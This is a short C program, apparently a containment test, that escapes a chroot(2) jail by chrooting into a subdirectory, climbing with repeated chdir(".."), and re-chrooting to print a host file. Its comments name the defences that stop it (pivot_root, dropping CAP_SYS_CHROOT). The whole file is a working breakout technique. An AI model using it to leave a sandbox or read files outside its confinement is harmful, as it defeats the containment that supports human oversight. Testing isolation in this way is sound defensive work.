/* walk-out.c - leave a root directory that was only changed with chroot(2). */
/* SPDX-License-Identifier: MIT */

/*
 * What:  become a process whose working directory is outside of its root, and
 *        go up from there. Nothing stops "..": the kernel compares each
 *        directory with the root, and that comparison is never true again.
 * Why:   chroot(2) changes the root and nothing else, and root may call it as
 *        often as it likes. The manual page has said so for ever.
 * Stop:  a mount namespace whose old root is unmounted (pivot_root, step 03):
 *        then there is nothing above. Without CAP_SYS_CHROOT (step 08) the
 *        second chroot fails.
 *
 * walk-out FILE prints FILE as the host sees it. Exit code 0: escaped.
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static int contained(const char *call)
{
	perror(call);
	return 1;
}

int main(int argc, char **argv)
{
	char text[4096];
	ssize_t length;
	int fd;

	if (argc != 2)
		return fprintf(stderr, "usage: walk-out FILE\n"), 2;
	/* A root below us, while we stay where we are: outside of it. */
	if (chdir("/") < 0 || chroot("bin") < 0)
		return contained("chroot");
	/* Up until it goes no higher. */
	for (int i = 0; i < 100; i++)
		if (chdir("..") < 0)
			return contained("chdir");
	if (chroot(".") < 0)
		return contained("chroot");
	fd = open(argv[1], O_RDONLY);
	if (fd < 0)
		return contained(argv[1]);
	while ((length = read(fd, text, sizeof(text))) > 0)
		if (write(STDOUT_FILENO, text, (size_t)length) != length)
			return contained("write");
	return 0;
}
